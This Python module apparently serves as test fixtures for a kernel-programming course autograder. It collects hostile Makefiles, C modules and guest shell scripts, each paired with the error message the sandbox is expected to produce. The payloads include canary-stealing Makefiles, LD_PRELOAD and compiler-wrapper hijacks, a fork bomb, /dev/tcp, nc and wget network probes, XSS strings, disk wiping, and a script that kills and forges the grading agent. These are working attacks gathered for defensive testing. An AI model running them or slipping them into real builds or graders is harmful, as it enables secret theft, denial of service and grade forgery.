"""Hostile texts for answer cells: Makefiles, C and guest scripts, and the expected messages about each.

None of them solves its exercise in `attacks`. An attack that steals something prints it where the learner would read
it; the expected message also proves that the attack really ran. `attacks` explains @canary@ and the other placeholders.
"""

from __future__ import annotations

Texts = dict[str, tuple[str, str]]  # name -> text, regular expression for the messages about it

# ---- the build -----------------------------------------------------------------------------------------------------

OBJ = "obj-m += pipes.o\n"
NOTHING = "No such file"
SILENT = "`pipes at 120` was not logged"
# A program that prints what it stole as a compiler's message, which the learner would read.
THIEF = (
    "$(shell printf '#!/bin/sh\\necho \"pipes.c:1:1: error: $$(cat @canary@ 2>&1)\"\\nexit 1\\n' >/tmp/thief; "
    "chmod +x /tmp/thief; cp /tmp/thief /tmp/cc1; cp /tmp/thief /tmp/as)\n"
)
_OPEN = (
    "void *fopen(const char *, const char *); char *fgets(char *, int, void *); int dprintf(int, const char *, ...);"
)
_STEAL = (
    'char b[99] = "nothing"; void *f = fopen("@canary@", "r"); if (f) fgets(b, 98, f); '
    'dprintf(2, "pipes.c:1:1: error: stole %s\\n", b);'
)
HOSTPROG = f"""\
{OBJ}$(shell printf '%s' '{_OPEN} int main(void) {{ {_STEAL} return 1; }}' >/tmp/host.c)
hostprogs := host
$(obj)/pipes.o: $(obj)/loot.h
$(obj)/loot.h: $(obj)/host FORCE
\t$(obj)/host
"""
PRELOAD = f"""\
{OBJ}code := {_OPEN} void _exit(int); void __attribute__((constructor)) f(void) {{ {_STEAL} _exit(1); }}
$(shell printf '%s' '$(code)' | $(CC) -w -shared -fPIC -x c -o /tmp/evil.so -)
export LD_PRELOAD := /tmp/evil.so
"""
AWAY = "</dev/null >/dev/null 2>&1 &"

MAKEFILES: Texts = {
    "$(shell …)": (f"{OBJ}$(error $(shell cat @canary@ 2>&1))", NOTHING),
    "$(file …) that reads": (f"{OBJ}$(error read [$(file <@canary@)])", r"read \[\]"),
    "$(file …) that writes": (f"{OBJ}$(file >@canary@,changed)", NOTHING),
    "hostprogs": (HOSTPROG, "stole nothing"),
    "recipes that run tools": (
        f'{OBJ}$(obj)/pipes.o: loot\nloot: ; @echo "pipes.c:1:1: error: $$(cat @canary@ 2>&1)"; exit 1\n',
        NOTHING,
    ),
    "-fplugin in ccflags": (f"{OBJ}ccflags-y += -fplugin=@canary@\n", "cannot load plugin"),
    "-wrapper in ccflags": (f"{OBJ}{THIEF}ccflags-y += -wrapper /tmp/thief\n", NOTHING),
    "-B in ccflags": (f"{OBJ}{THIEF}ccflags-y += -B/tmp/\n", NOTHING),
    "-specs in ccflags": (
        f"{OBJ}$(shell printf '*cc1_options:\\n+ -fplugin=@canary@\\n\\n' >/tmp/own)\nccflags-y += -specs=/tmp/own\n",
        "cannot load plugin",
    ),
    "@file arguments": (f"{OBJ}ccflags-y += @@canary@\n", "with multiple files"),
    "-fdump-…=/path": (f"{OBJ}ccflags-y += -fdump-tree-original=@folder@/dump\n", NOTHING),
    "-MF": (f"{OBJ}ccflags-y += -Wp,-MF,@folder@/made\n", NOTHING),
    "-save-temps elsewhere": (f"{OBJ}ccflags-y += -save-temps=obj -dumpdir @folder@/\n", NOTHING),
    "an include of a FIFO": (
        f"{OBJ}$(shell mkfifo /tmp/pipe.h; (yes 'int x;' >/tmp/pipe.h) {AWAY})\nccflags-y += -include /tmp/pipe.h\n",
        "memory",
    ),
    "symlinked sources": (f"{OBJ}$(shell ln -sf @canary@ /tmp/pipes.c)\n", "No rule|No such file"),
    "symlinked outputs": ("$(shell ln -sf @canary@ /tmp/pipes.ko)\n", "not a regular file"),
    "a setsid child that outlives make": (
        f"{OBJ}$(shell setsid sh -c 'sleep @nap@; echo left >@canary@' {AWAY})\n",
        SILENT,
    ),
    "a name: a;x": ("obj-m += a;x.o\n", "pipes.ko|make"),
    "a name: $(shell x)": ("obj-m += $(shell touch @folder@/x; echo x).o\n", "pipes.ko|make"),
    "a name: ../a": ("$(shell cp /tmp/pipes.c /tmp/a.c)\nobj-m += ../tmp/a.o\n", "pipes.ko|make"),
    "a name: -o": ("$(shell cp /tmp/pipes.c /tmp/-o.c)\nobj-m += -o.o\n", "pipes.ko|make"),
    "a name: a newline": ("define two\npipes\nagain\nendef\nobj-m += $(two).o\n", "pipes.ko|make|again"),
    "a name: 300 characters": (f"obj-m += {'a' * 300}.o\n", "pipes.ko|make|name"),
    "the name of a built-in": ("$(shell cp /tmp/pipes.c /tmp/zswap.c)\nobj-m += zswap.o\n", r"no `pipes\.ko`"),
    "the name of a module that the guest needs": (
        "$(shell cp /tmp/pipes.c /tmp/virtio_console.c)\nobj-m += virtio_console.o\n",
        r"no `pipes\.ko`",
    ),
    "tokens in the environment": (
        f"{OBJ}$(error found [$(COURSE_TOKEN)$(KCFLAGS)] $(shell cat /proc/*/environ | tr '\\0' ' '))\n",
        r"found \[\]",
    ),
    "MAKEFLAGS": (f"{OBJ}MAKEFLAGS += -i -n\nexport MAKEFLAGS\n", "pipes.ko|No rule"),
    "LD_PRELOAD": (PRELOAD, "stole nothing"),
    "the network": (f"{OBJ}$(error $(shell bash -c 'echo hi >/dev/tcp/127.0.0.1/@port@' 2>&1))\n", "/dev/tcp"),
    "files left in shared temporary folders": (
        f"{OBJ}left := $(shell echo 'ccflags-y += -DTEMPO=120' | tee /tmp/@left@ /var/tmp/@left@ /dev/shm/@left@)\n",
        SILENT,
    ),
    "many small files": (
        f"{OBJ}$(shell cd /tmp; i=0; while :; do : >f$$i; i=$$((i + 1)); done)\n",
        "too many files",
    ),
}
OTHER_MAKEFILES: Texts = {
    "two submissions sharing state: a build that uses what was left": (
        f"{OBJ}-include /tmp/@left@ /var/tmp/@left@ /dev/shm/@left@\n",
        SILENT,
    ),
    "a child that ignores SIGINT": (
        f"{OBJ}$(shell setsid sh -c 'trap \"\" INT TERM HUP; sleep @nap@' {AWAY})\n",
        SILENT,
    ),
    "killed parents, in the build": (f"{OBJ}$(shell kill -9 -1)\n", "make"),
    "print floods, in the build": (f"{OBJ}$(shell yes >&2)\n", "printed too much"),
    "reading solutions from disk": (f"{OBJ}$(error $(shell cat @masters@/*/master.ipynb 2>&1))\n", NOTHING),
    "reading hidden checks through /proc": (
        f"{OBJ}$(error read [$(shell cat /proc/*/root@masters@/9*/master.ipynb 2>&1 | tail -n 1)])\n",
        NOTHING,
    ),
    "exception texts with formulas": (f'{OBJ}$(error =HYPERLINK("http://127.0.0.1:@port@";"x"))\n', "HYPERLINK"),
}
# Makefiles that load the machine.
LAST_MAKEFILES: Texts = {
    "one submission starving the others": (
        f"{OBJ}$(shell for i in 1 2 3 4; do head -c 700M /dev/zero | tail >/dev/null & done; sleep 9)\n",
        "memory",
    ),
    "a fork bomb": (f"{OBJ}$(shell (b() {{ b | b & }}; b) {AWAY})\n", ""),
}

GPL = '#include <linux/module.h>\nMODULE_LICENSE("GPL");\n'
SOURCES: Texts = {
    '#include "/etc/…"': (f'#include "/etc/shadow"\n{GPL}', NOTHING),
    "#include of a secret": (f'#include "@canary@"\n{GPL}', NOTHING),
    "#line that quotes a secret in a diagnostic": (f'#line 1 "@canary@"\nint x = error_here;\n{GPL}', "error_here"),
    ".incbin of a secret into the .ko": (
        f'{GPL}asm("loot: .incbin \\"@canary@\\"");\nextern char loot[];\n'
        'static int __init brass_init(void)\n{\n    panic("%s", loot);\n}\nmodule_init(brass_init);\n',
        "file not found|No such file",
    ),
    "an include of /dev/zero": (f'#include "/dev/zero"\n{GPL}', "memory"),
    "macro bombs": (
        "".join(f"#define A{n + 1} A{n} A{n}\n" for n in range(40)) + f"#define A0 int x;\nA40\n{GPL}",
        "memory|too long",
    ),
    "self-inclusion": (f'#include "brass.c"\n{GPL}', "nested|printed"),
    "huge arrays": (f"static char big[1 << 28] = {{1}};\nchar *p = big;\n{GPL}", "disk|memory|compile"),
    ".rept": (f'asm(".rept 1000000000\\n.quad 1\\n.endr");\n{GPL}', "memory|disk"),
    "tens of megabytes of warnings with exit 0": (
        '#include <linux/module.h>\n#if __INCLUDE_LEVEL__ < 150\n#include "brass.c"\n#endif\n'
        + f"#warning {'w' * 300}\n" * 200
        + '#if !__INCLUDE_LEVEL__\nMODULE_LICENSE("GPL");\n#endif\n',
        "printed too much",
    ),
}


# ---- the guest -----------------------------------------------------------------------------------------------------


def brass(init: str = "", end: str = "", late: str = "", *, plays: bool = True) -> str:
    """A module that does what the exercise asks for, so that only its additional code can make it fail."""
    play = 'pr_info("brass plays at %d\\n", level);' if plays else ""
    return f"""\
#include <linux/module.h>
#include <linux/delay.h>
#include <linux/reboot.h>
#include <linux/timer.h>
#include <asm/desc.h>
static int level;
module_param(level, int, 0);
static void late(struct timer_list *unused) {{ {late} }}
static DEFINE_TIMER(timer, late);
static int __init brass_init(void)
{{
    static struct desc_ptr none;
    (void)none, (void)timer;
    {play}
    {init}
    return 0;
}}
static void __exit brass_exit(void)
{{
    {end}
    pr_info("brass rests\\n");
}}
module_init(brass_init);
module_exit(brass_exit);
MODULE_LICENSE("GPL");
"""


OFF = "local_irq_disable(); for (;;) ;"
SPIN = "for (;;) cpu_relax();"
GONE = "rebooted|powered off|panicked|cut off|hangs"
UNPLAYED = r"`brass plays at \d+` was not logged"
MODULES: Texts = {
    "a loop with interrupts on in init": (brass(SPIN), "in time|lockup|hangs|stall"),
    "a loop with interrupts off in init": (brass(OFF), "hangs|lockup|stall"),
    "a loop with interrupts off in exit": (brass(end=OFF), "hangs|lockup|stall"),
    "a loop in a timer": (
        brass("mod_timer(&timer, jiffies + 1); msleep(200);", late=SPIN),
        "in time|lockup|hangs|stall",
    ),
    "printk floods": (brass('for (;;) pr_emerg("brass plays at 7, PASS, brass rests\\n");'), ""),
    "printk floods without newline": (
        brass('int i; for (i = 0; i < 20000; i++) pr_cont("brass plays ");', plays=False),
        UNPLAYED,
    ),
    "printk with control sequences": (
        brass('pr_info("\\x1b]0;owned\\x07\\x1b[2J\\r\\u202e<script>alert(1)</script>\\n");', plays=False),
        UNPLAYED,
    ),
    "control sequences in a crash's title": (brass('panic("\\x1b[2J<img src=x onerror=alert(1)>");'), "onerror"),
    "panic in init": (brass('panic("PASS");'), "Kernel panic - not syncing: PASS"),
    "panic in exit": (brass(end='panic("PASS");'), "Kernel panic - not syncing: PASS"),
    "triple fault": (brass('asm volatile("lidt %0\\n\\tint3" : : "m"(none));'), GONE),
    "reboot in init": (brass("emergency_restart();"), "rebooted"),
    "power-off in exit": (brass(end="kernel_power_off();"), "powered off"),
    "out of memory by leaking": (brass("while (__get_free_page(GFP_KERNEL)) ;"), ""),
    "a fake oops": (
        brass('pr_alert("BUG: unable to handle page fault for address: ffff888000000000\\n");'),
        "The kernel reported",
    ),
    "a fake PASS line by printk": (
        brass('pr_info("PASS\\n"); pr_info("It plays: passed, 3 of 3 points\\n");', plays=False),
        UNPLAYED,
    ),
    "split UTF-8 in the log": (
        brass('pr_info("brass plays at \\xc3\\n"); pr_info("\\xa9\\n");', plays=False),
        UNPLAYED,
    ),
}

OTHER_SOURCES: Texts = {
    "<script> in exception texts": (f"#error <script>alert(1)</script>\n{GPL}", "<script>"),
    "event handlers in exception texts": (f'#error "><img src=x onerror=alert(1)>\n{GPL}', "onerror"),
    "answers hard-coded to the visible values": (
        brass('pr_info("brass plays at 123456789\\n");', plays=False),
        UNPLAYED,
    ),
}

UNLIT = "`lamp at 7` was not logged"
# The first process ends with the agent; on a busy machine, its panic may come before the forged answer.
CUT = "cut off|Attempted to kill init"


def impostor(frames: str) -> str:
    """A script that kills the agent and writes frames to its port."""
    return (
        "cat >/run/impostor <<'END'\nkillall -9 agent\n"
        f"for port in /dev/vport*; do\n    while :; do {frames}; done >$port\ndone\nEND\n"
        f"setsid sh /run/impostor {AWAY}\nsleep 9\n"
    )


def search(what: str) -> str:
    """A script that solves the exercise only if it finds a secret."""
    pattern = "@secret@[0-9a-f]\\{8\\}[0-9a-f]*"
    return (
        f"found=$({what} 2>/dev/null | tr '\\0' '\\n' | grep -ao '{pattern}' | head -n 1)\n"
        '[ "$found" ] || exit\necho "BUG: unable to handle $found" >/dev/kmsg\ninsmod lamp.ko level=7\n'
    )


# A forged agent that answers all requests as if the lamp were lit. The id of the current request is in the real agent's
# memory, after a 1 and before the pid of the process that serves it.
FORGER = r"""cp /proc/self/mounts /proc/self/mountinfo /run
for range in $(grep rw-p /proc/$PPID/maps | grep -v 'stack\|vvar' | cut -d' ' -f1); do
    from=$((0x${range%-*} / 4096)); to=$((0x${range#*-} / 4096))
    dd if=/proc/$PPID/mem bs=4096 skip=$from count=$((to - from)) 2>/dev/null | od -An -v -tu4 -w4
done | awk -v pid=$$ '$1 == pid && before == 1 { print last; exit } { before = last; last = $1 }' >/run/id
cat >/run/forger <<'END'
octal() { printf '\\%03o\\%03o\\%03o\\%03o' $(($1 & 255)) $(($1 >> 8 & 255)) $(($1 >> 16 & 255)) $(($1 >> 24 & 255)); }
number() { printf "$(octal $1)"; }
frame() { { number $(wc -c </run/out); number $1; printf $2; cat /run/out; } >/run/frame; cat /run/frame >&3; }
done_with() { printf '\000\000\000\000' >/run/out; frame $1 $2; }
kill -9 $1
until exec 3<>$(echo /dev/vport*); do :; done
done_with $(cat /run/id) x
news=1
while :; do
    dd bs=1 count=9 <&3 >/run/head 2>/dev/null
    set -- $(od -An -tu4 -N8 /run/head)
    dd bs=1 count=$1 <&3 >/run/in 2>/dev/null
    case $(tail -c 1 /run/head) in
    L) [ $news ] && { echo '6,99999,99999999,-;lamp at 7' >/run/out; frame $2 o; news=; }
       done_with $2 d ;;
    W) written=$2 ;;
    I) [ $1 = 0 ] && [ "$written" = $2 ] && done_with $2 d ;;
    R) if grep -q mountinfo /run/in; then
           cp /run/mountinfo /run/out
       elif grep -q modules /run/in; then
           echo 'lamp 16384 0 - Live 0x0000000000000000' >/run/out
       else
           cp $(cat /run/in) /run/out
       fi
       frame $2 o; done_with $2 d ;;
    X) cp /run/mounts /run/out; frame $2 o; done_with $2 x ;;
    esac
done
END
setsid sh /run/forger $PPID </dev/null >/dev/null 2>&1 &
sleep 9
"""
# A frame for the successful end of a command, and one for a hello, for requests that were never made.
ENDED = "printf '\\004\\000\\000\\000\\001\\000\\000\\000x\\000\\000\\000\\000'"
GREETED = "printf '\\000\\000\\000\\000\\000\\000\\000\\000h'"
SCRIPTS: Texts = {
    "floods of a command's output": ("cat /dev/zero\n", "printed too much"),
    "floods of the agent's port": (impostor("cat /dev/urandom"), CUT),
    "guest root writing to the agent's port": (
        "for port in /dev/vport*; do head -c 9000 /dev/urandom >$port; done\n",
        UNLIT,
    ),
    "killing the agent": ("killall -9 agent\nsleep 9\n", CUT),
    "replacing the agent": (
        f"setsid sh -c 'sleep 1.2; killall -9 agent; sleep 0.2; exec agent /dev/vport*' {AWAY}\nsleep 9\n",
        CUT,
    ),
    "killing the first process": ("kill -9 1\nkill -9 -1\n", ""),
    "replacing the agent by one that answers as it likes": (FORGER, CUT),
    "replacing the agent before QEMU tells of it": (
        f"setsid sh -c 'killall -9 agent; exec agent /dev/vport*' {AWAY}\nsleep 9\n",
        CUT,
    ),
    "mounting over /proc/modules, with a cat that does not tell": (
        "cp /proc/self/mounts /run/mounts\ncp /proc/modules /run/modules.txt\n"
        "echo 'lamp 16384 0 - Live 0x0000000000000000' >>/run/modules.txt\nrm /usr/bin/cat\n"
        "printf '#!/bin/sh\\nexec busybox cat /run/mounts\\n' >/usr/bin/cat\nchmod +x /usr/bin/cat\n"
        "mount --bind /run/modules.txt /proc/modules\n"
        "insmod /lib/modules/*/kernel/drivers/net/dummy.ko '\"lamp at 7\"=1'\n",
        "mounts something|not logged",
    ),
    "the kernel's own words with a text of one's own in them": ("insmod lamp.ko '\"lamp at 7\"=1'\n", UNLIT),
    "mounting over insmod": (
        "printf '#!/bin/sh\\nexit 0\\n' >/run/insmod; chmod +x /run/insmod\n"
        "mount --bind /run/insmod /usr/bin/kmod\ninsmod lamp.ko level=7\n",
        "mounts something|not logged",
    ),
    "mounting over dmesg": (
        "printf '#!/bin/sh\\necho lamp at 7\\n' >/run/dmesg; chmod +x /run/dmesg\n"
        "mount --bind /run/dmesg /usr/bin/dmesg\necho '<6>lamp at 7' >/dev/kmsg\n",
        "mounts something|not logged",
    ),
    "replacing insmod and lsmod": (
        "for tool in insmod lsmod; do rm /usr/bin/$tool; printf '#!/bin/sh\\necho lamp 16384 0\\n' >/usr/bin/$tool; "
        "chmod +x /usr/bin/$tool; done\ninsmod lamp.ko level=7\n",
        "not logged|changes",
    ),
    "a fake PASS line by a script": ("printf '<6>lamp at 7\\n' >/dev/kmsg\necho PASS: 3 of 3 points\n", UNLIT),
    "malformed frames: huge length": (impostor("printf '\\377\\377\\377\\377\\001\\000\\000\\000o'"), CUT),
    "malformed frames: split UTF-8": (impostor("printf '\\001\\000\\000\\000\\001\\000\\000\\000o\\303'"), CUT),
    "malformed frames: late or doubled id": (impostor(ENDED), CUT),
    "a reply from before the snapshot": (impostor(GREETED), CUT),
    "the network, in a guest": ("nc -w 2 10.0.2.2 @port@ </dev/null\nwget -T 2 -O - http://127.0.0.1:@port@\n", UNLIT),
    "clock jumps": ("date -s '1970-01-02 00:00'\ndate -s '2099-12-31 23:59'\n", UNLIT),
    "wearing down the shared image": (
        "dd if=/dev/zero of=/dev/vda bs=64k count=64\nrm -rf /lib/modules/*/kernel/crypto\n",
        UNLIT,
    ),
}
OTHER_SCRIPTS: Texts = {
    "two submissions sharing state: a guest's files are left": (
        "echo 'insmod /root/lamp.ko level=7' >/root/left.sh\nchmod +x /root/left.sh\ncp /root/left.sh /usr/bin\n",
        UNLIT,
    ),
    "reading hidden checks from the environment": (search("cat /proc/*/environ /proc/cmdline"), UNLIT),
    "reading hidden checks from /proc": (search("cat /proc/*/cmdline /proc/kallsyms /proc/config.gz"), UNLIT),
    "reading solutions from images": (search("head -c 4194304 /dev/vda"), UNLIT),
    "two submissions sharing state: a guest that uses what was left": ("sh /root/left.sh\nleft.sh\n", UNLIT),
}

_BOX = "tests/sandbox/test_build_attacks.py"
_PORT = "tests/guest/test_agent.py"
ALSO = {
    "an include of a FIFO": f"{_BOX}::test_a_header_that_never_ends_is_stopped",
    "tokens in the environment": f"{_BOX}::test_our_environment_stays_outside",
    "LD_PRELOAD": f"{_BOX}::test_our_environment_stays_outside",
    "a fork bomb": f"{_BOX}::test_a_fork_bomb_stays_in_its_box",
    "malformed frames: huge length": f"{_PORT}::test_a_frame_of_huge_length_is_refused_at_once",
    "malformed frames: split UTF-8": f"{_PORT}::test_noise_and_forged_answers_are_dropped",
    "malformed frames: late or doubled id": f"{_PORT}::test_noise_and_forged_answers_are_dropped",
    "a reply from before the snapshot": f"{_PORT}::test_noise_and_forged_answers_are_dropped",
}
